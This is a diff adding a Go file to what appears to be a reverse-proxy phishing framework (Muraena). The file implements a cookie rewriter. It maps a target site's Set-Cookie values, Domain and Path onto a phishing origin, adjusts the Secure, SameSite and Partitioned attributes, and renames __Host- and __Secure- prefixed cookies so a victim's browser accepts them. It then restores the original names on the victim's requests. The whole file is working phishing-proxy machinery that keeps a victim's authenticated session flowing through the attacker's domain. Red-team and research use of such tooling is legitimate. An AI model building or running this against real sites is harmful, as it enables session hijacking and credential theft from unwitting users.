@@ -0,0 +1,206 @@
+package proxy
+
+import (
+	"strings"
+
+	"github.com/muraenateam/muraena/session"
+)
+
+const (
+	hostCookiePrefix   = "__Host-"
+	secureCookiePrefix = "__Secure-"
+
+	// Cookie prefixes whose constraints cannot be met on the phishing origin are renamed,
+	// and restored on the way back to the target.
+	hostCookieAlias   = "__Host_"
+	secureCookieAlias = "__Secure_"
+)
+
+// cookieRewriter maps the cookies exchanged with the target to the phishing origin, and back.
+type cookieRewriter struct {
+	replacer *Replacer
+	base64   Base64
+
+	sameSite    string
+	secure      string
+	partitioned string
+}
+
+func newCookieRewriter(sess *session.Session, replacer *Replacer, base64 Base64) *cookieRewriter {
+	config := sess.Config.Transform.Response.Cookie
+
+	return &cookieRewriter{
+		replacer:    replacer,
+		base64:      base64,
+		sameSite:    config.SameSite,
+		secure:      strings.ToLower(config.Secure),
+		partitioned: strings.ToLower(config.Partitioned),
+	}
+}
+
+// cookieAttribute is a Set-Cookie attribute, Value is empty for flags such as Secure
+type cookieAttribute struct {
+	Name  string
+	Value string
+	Flag  bool
+}
+
+// SetCookie rewrites a Set-Cookie header value received from the target:
+// the value and the Domain are mapped to the phishing origin, and the SameSite, Secure and Partitioned
+// attributes are adjusted as configured, honoring the __Host- and __Secure- prefix constraints.
+// Unknown attributes are preserved as they are.
+func (c *cookieRewriter) SetCookie(header string) string {
+	parts := strings.Split(header, ";")
+
+	name, value := parts[0], ""
+	if i := strings.Index(parts[0], "="); i != -1 {
+		name, value = parts[0][:i], parts[0][i+1:]
+	}
+	name = strings.TrimSpace(name)
+	value = c.replacer.Transform(value, false, c.base64)
+
+	var attributes []cookieAttribute
+	for _, p := range parts[1:] {
+		p = strings.TrimSpace(p)
+		if p == "" {
+			continue
+		}
+
+		a := cookieAttribute{Name: p, Flag: true}
+		if i := strings.Index(p, "="); i != -1 {
+			a = cookieAttribute{Name: strings.TrimSpace(p[:i]), Value: strings.TrimSpace(p[i+1:])}
+		}
+		attributes = append(attributes, a)
+	}
+
+	get := func(attribute string) int {
+		for i, a := range attributes {
+			if strings.EqualFold(a.Name, attribute) {
+				return i
+			}
+		}
+		return -1
+	}
+	del := func(attribute string) {
+		if i := get(attribute); i != -1 {
+			attributes = append(attributes[:i], attributes[i+1:]...)
+		}
+	}
+	set := func(attribute, value string, flag bool) {
+		if i := get(attribute); i != -1 {
+			attributes[i].Value = value
+			return
+		}
+		attributes = append(attributes, cookieAttribute{Name: attribute, Value: value, Flag: flag})
+	}
+
+	// Domain
+	if i := get("Domain"); i != -1 {
+		attributes[i].Value = c.Domain(attributes[i].Value)
+	}
+
+	// Path
+	if i := get("Path"); i != -1 {
+		attributes[i].Value = c.replacer.Transform(attributes[i].Value, false, c.base64)
+	}
+
+	// SameSite
+	if c.sameSite != "" {
+		set("SameSite", c.sameSite, false)
+	}
+
+	// Secure
+	switch c.secure {
+	case "add":
+		set("Secure", "", true)
+	case "remove":
+		del("Secure")
+	}
+
+	// SameSite=None requires Secure, unless explicitly removed
+	if i := get("SameSite"); i != -1 && strings.EqualFold(attributes[i].Value, "None") && c.secure != "remove" {
+		set("Secure", "", true)
+	}
+
+	// Partitioned
+	switch c.partitioned {
+	case "add":
+		set("Partitioned", "", true)
+		set("Secure", "", true)
+	case "remove":
+		del("Partitioned")
+	}
+
+	// Cookie prefixes
+	secure := get("Secure") != -1
+	switch {
+	case strings.HasPrefix(name, hostCookiePrefix):
+		if !secure {
+			name = hostCookieAlias + strings.TrimPrefix(name, hostCookiePrefix)
+			break
+		}
+
+		// __Host- cookies must be host-only with Path=/
+		del("Domain")
+		set("Path", "/", false)
+
+	case strings.HasPrefix(name, secureCookiePrefix):
+		if !secure {
+			name = secureCookieAlias + strings.TrimPrefix(name, secureCookiePrefix)
+		}
+	}
+
+	var b strings.Builder
+	b.WriteString(name)
+	b.WriteString("=")
+	b.WriteString(value)
+	for _, a := range attributes {
+		b.WriteString("; ")
+		b.WriteString(a.Name)
+		if !a.Flag {
+			b.WriteString("=")
+			b.WriteString(a.Value)
+		}
+	}
+
+	return b.String()
+}
+
+// Domain maps a cookie Domain attribute of the target to the phishing origin.
+// Wildcard and unmapped domains are bound to the phishing domain itself.
+func (c *cookieRewriter) Domain(domain string) string {
+	mapped := c.replacer.Transform(domain, false, c.base64)
+
+	if strings.Contains(mapped, c.replacer.WildcardPrefix()) {
+		return "." + c.replacer.Phishing
+	}
+
+	host := strings.TrimPrefix(strings.ToLower(mapped), ".")
+	if host != c.replacer.Phishing && !strings.HasSuffix(host, "."+c.replacer.Phishing) {
+		return "." + c.replacer.Phishing
+	}
+
+	return mapped
+}
+
+// Cookie restores the names of the cookies sent by the victim whose prefix has been renamed by SetCookie
+func (c *cookieRewriter) Cookie(header string) string {
+	if !strings.Contains(header, hostCookieAlias) && !strings.Contains(header, secureCookieAlias) {
+		return header
+	}
+
+	pairs := strings.Split(header, ";")
+	for i, pair := range pairs {
+		trimmed := strings.TrimLeft(pair, " ")
+		space := pair[:len(pair)-len(trimmed)]
+
+		switch {
+		case strings.HasPrefix(trimmed, hostCookieAlias):
+			pairs[i] = space + hostCookiePrefix + strings.TrimPrefix(trimmed, hostCookieAlias)
+		case strings.HasPrefix(trimmed, secureCookieAlias):
+			pairs[i] = space + secureCookiePrefix + strings.TrimPrefix(trimmed, secureCookieAlias)
+		}
+	}
+
+	return strings.Join(pairs, ";")
+}